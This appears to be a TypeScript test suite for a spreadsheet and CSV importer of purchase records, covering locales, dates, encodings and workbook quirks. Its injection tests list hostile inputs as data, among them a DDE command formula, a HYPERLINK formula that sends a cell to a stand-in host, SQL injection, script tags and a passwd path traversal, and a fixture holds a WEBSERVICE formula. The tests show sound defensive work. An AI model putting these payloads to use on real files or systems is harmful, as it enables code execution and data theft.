import { array, assert, constantFrom, oneof, property, string } from "fast-check";
import { describe, expect, it } from "vitest";
import { parse } from "../table/parse.fixture.ts";
import type { Cell, TableFile } from "../table/table.ts";
import { DAY, type FixtureCell, styled, xlsxOf, xlsxOfRows } from "../table/workbook.fixture.ts";
import { templateOf, templates } from "../template/templates.ts";
import { createRowReader } from "../values/row-reader.ts";
import { createColumnScan, type Locales } from "../values/scan.ts";
import { suggestMapping } from "./suggest.ts";

const template = templateOf("purchases")!;
const HEADER = ["Producto", "CNAE", "Importe", "Fecha", "Tipo de gasto"];

/** Records of a file, as a session makes them: parsed, mapped as suggested, converted. No reference is resolved. */
async function imported(name: string, content: string | Uint8Array, choices: Partial<TableFile> & Locales = {}) {
  const { numericLocale = null, dateLocale = null, ...file } = choices;
  const { table, rows } = await parse(name, content, file);
  const suggestions = suggestMapping({
    template,
    columns: table.columns,
    samples: rows.map(({ cells }) => cells),
  });
  const mapping = Object.fromEntries(
    suggestions.flatMap(({ sourceColumn, targetColumn }) => (targetColumn ? [[sourceColumn, targetColumn]] : [])),
  );
  const mapped = { template, columns: table.columns, mapping, valueMappings: {} };
  const scan = createColumnScan({ ...mapped, numericLocale, dateLocale });
  for (const { cells } of rows) scan.add(cells);
  const reader = createRowReader({
    ...mapped,
    styles: scan.styles(),
    resolutions: new Map(),
    dateSystem: table.dateSystem,
  });
  return { mapping, rows: rows.map(({ cells }) => reader.read(cells)) };
}

const csv = (row: readonly string[], header: readonly string[] = HEADER) =>
  [header, row].map((cells) => cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(";")).join("\n");
const row = (more: { name?: string; amount?: string; day?: string; expense?: string }) => {
  const { name = "Acero", amount = "10", day = "2026-02-01", expense = "opex" } = more;
  return csv([name, "24.10", amount, day, expense]);
};
/** Data and codes of errors of the only row. */
async function single(content: string | Uint8Array, choices: Partial<TableFile> & Locales & { name?: string } = {}) {
  const { name = typeof content === "string" ? "a.csv" : "a.xlsx", ...more } = choices;
  const { rows } = await imported(name, content, more);
  expect(rows).toHaveLength(1);
  const { data, errors } = rows[0]!;
  return { ...data, errors: Object.entries(errors).map(([key, [first]]) => `${key} ${first!.code}`) };
}

describe("texts that spreadsheets would execute stay texts", () => {
  it.each([
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "<script>alert(1)</script>",
    "'; drop table purchases; --",
    "{{7*7}} #{7*7}",
    "../../etc/passwd",
    "%s%n%x",
    "línea\nsiguiente",
    "\u202egnp.exe",
    "🧪 ácido",
  ])("%j", async (name) => {
    expect(await single(row({ name }))).toMatchObject({ product_name: name, errors: [] });
  });
});

describe("names of columns that mean something to programs are only names", () => {
  it.each(["__proto__", "constructor", "toString", "hasOwnProperty", "=Producto", "<b>", "%00", "select *", "💣"])(
    "%s",
    async (extra) => {
      const content = csv(["Acero", "24.10", "10", "2026-02-01", "opex", "x"], [...HEADER, extra]);
      expect(await single(content)).toMatchObject({ product_name: "Acero", quantity: "10", errors: [] });
    },
  );
});

describe("numbers as texts", () => {
  it.each([
    ["es_ES", "1.234.567,89"],
    ["en_US", "1,234,567.89"],
    ["fr_FR", "1\u202f234\u202f567,89"],
    ["de_CH", "1’234’567.89"],
    ["de_DE", "1.234.567,89"],
    ["pl_PL", "1\u00a0234\u00a0567,89"],
  ])("of %s are exact: %s", async (numericLocale, amount) => {
    expect(await single(row({ amount }), { numericLocale })).toMatchObject({ quantity: "1234567.89", errors: [] });
    const asText = xlsxOfRows([HEADER, ["Acero", "24.10", amount, "2026-02-01", "opex"]]);
    expect(await single(asText, { numericLocale })).toMatchObject({ quantity: "1234567.89", errors: [] });
  });

  it.each(["1,2.3", "12 kg", "1e999", "Infinity", "NaN", "0x10", "--5", "\u0663", "9".repeat(200), "#N/A"])(
    "that are none are errors of their cell: %s",
    async (amount) => {
      const { rows } = await imported("a.csv", row({ amount }), { numericLocale: "es_ES" });
      expect(rows[0]!.errors).toMatchObject({ quantity: [{ code: "type_error.decimal" }] });
    },
  );

  it("that mean two numbers are never guessed", async () => {
    const { rows } = await imported("a.csv", row({ amount: "1.234" }));
    expect(rows[0]!.errors).toMatchObject({ quantity: [{ code: "value_error.number.ambiguous" }] });
  });
});

describe("days", () => {
  const workbook = (day: FixtureCell, date1904 = false) =>
    xlsxOf({ sheets: [{ name: "Data", rows: [HEADER, ["Acero", "24.10", 10, day, "opex"]] }], date1904 });

  it.each([
    ["46054 of 1900", workbook(styled(DAY, "46054")), "2026-02-01"],
    ["44592 of 1904", workbook(styled(DAY, "44592"), true), "2026-02-01"],
    ["a text", workbook("1 de febrero de 2026"), "2026-02-01"],
    ["a serial number without a format", workbook(46_054), "2026-02-01"],
    ["a serial number without a format of 1904", workbook(44_592, true), "2026-02-01"],
    ["with a time", workbook(styled(DAY, "46054.75")), "2026-02-01"],
  ])("%s are read", async (_, bytes, day) => {
    expect(await single(bytes)).toMatchObject({ purchase_date: day, errors: [] });
  });

  it.each([
    ["29 February 1900", workbook(styled(DAY, "60")), "CELL_DATE_UNKNOWN"],
    ["before the first", workbook(styled(DAY, "-1")), "CELL_DATE_UNKNOWN"],
    ["after 9999", workbook(styled(DAY, "2958466")), "CELL_DATE_UNKNOWN"],
    ["31 June", workbook("31/06/2026"), "value_error.date"],
    ["day or month first", workbook("01/02/2026"), "value_error.date.ambiguous"],
    ["of month 13", workbook("2026-13-01"), "value_error.date"],
  ])("%s are errors of their cell", async (_, bytes, code) => {
    const { rows } = await imported("a.xlsx", bytes);
    expect(rows[0]!.errors).toMatchObject({ purchase_date: [{ code }] });
  });
});

describe("workbooks", () => {
  const cells: FixtureCell[] = ["Acero", "24.10", 10, styled(DAY, "46054"), "opex"];
  const error: FixtureCell = { xml: '<c r="REF" t="e"><v>#REF!</v></c>' };
  const formula: FixtureCell = { xml: '<c r="REF"><f>WEBSERVICE("http://example.com")</f></c>' };
  const stored: FixtureCell = { xml: '<c r="REF"><f>SUM(A1:A9)</f><v>12.5</v></c>' };

  it.each([
    ["an error", error, "CELL_ERROR"],
    ["a formula without a stored value", formula, "CELL_FORMULA_WITHOUT_VALUE"],
  ])("with %s have an error in that cell only", async (_, cell, code) => {
    const { rows } = await imported("a.xlsx", xlsxOfRows([HEADER, cells.with(2, cell), cells]));
    expect(rows.map(({ errors }) => Object.keys(errors))).toEqual([["quantity"], []]);
    expect(rows[0]!.errors).toMatchObject({ quantity: [{ code }] });
  });

  it("with a formula have its stored value", async () => {
    expect(await single(xlsxOfRows([HEADER, cells.with(2, stored)]))).toMatchObject({ quantity: "12.5", errors: [] });
  });

  it("with a hidden sheet before the data, titles and merged cells give the records", async () => {
    const rows = [["Compras 2026"], [], HEADER, cells, ["Cobre", null, 20, styled(DAY, "46055"), "capex"]];
    const bytes = xlsxOf({
      sheets: [
        { name: "Lists", rows: [["x", "y"]], state: "veryHidden" },
        { name: "Data", rows, merges: ["B4:B5"] },
      ],
    });
    const { rows: records } = await imported("a.xlsx", bytes);
    expect(records.map(({ data: { product_name, sector, quantity } }) => [product_name, sector, quantity])).toEqual([
      ["Acero", "24.10", "10"],
      ["Cobre", "24.10", "20"],
    ]);
  });
});

describe("encodings", () => {
  it.each([
    ["UTF-8", Buffer.from(row({ name: "Señalización «ñ»" }))],
    ["UTF-8 with a mark", Buffer.from(`\ufeff${row({ name: "Señalización «ñ»" })}`)],
    ["UTF-16", Buffer.from(`\ufeff${row({ name: "Señalización «ñ»" })}`, "utf16le")],
    ["Windows-1252", Buffer.from(row({ name: "Señalización «ñ»" }), "latin1")],
  ])("%s gives the same texts", async (_, bytes) => {
    expect(await single(bytes, { name: "a.csv" })).toMatchObject({ product_name: "Señalización «ñ»", errors: [] });
  });
});

describe("any cells", () => {
  const cell = oneof(
    string({ maxLength: 12, unit: "binary" }),
    constantFrom<Cell>(
      ...[null, true, false, { number: "-1" }, { number: "1e400" }, { number: "0.1", percent: true as const }],
      ...[
        { day: "9999-12-31", time: "23:59:59" },
        { error: "CELL_TOO_LONG" as const },
        "a; b; c",
        "0; 1",
        "x".repeat(32_767),
      ],
    ),
  );

  it.each(templates.map(({ id }) => ({ id })))("give records or errors of $id", ({ id }) => {
    const all = templateOf(id)!;
    const columns = all.columns.map(({ key }) => key);
    const mapping = Object.fromEntries(columns.map((key) => [key, key]));
    const mapped = { template: all, columns, mapping, valueMappings: {} };
    assert(
      property(array(cell, { minLength: columns.length, maxLength: columns.length }), (cells) => {
        suggestMapping({ template: all, columns, samples: [cells] });
        const scan = createColumnScan({ ...mapped, numericLocale: null, dateLocale: null });
        scan.add(cells);
        const { data, errors } = createRowReader({ ...mapped, styles: scan.styles(), resolutions: new Map() }).read(
          cells,
        );
        expect(Object.keys(data).every((key) => columns.includes(key))).toBe(true);
        expect(Object.values(errors).every((list) => list.length > 0)).toBe(true);
      }),
      { numRuns: 5 },
    );
  });
});
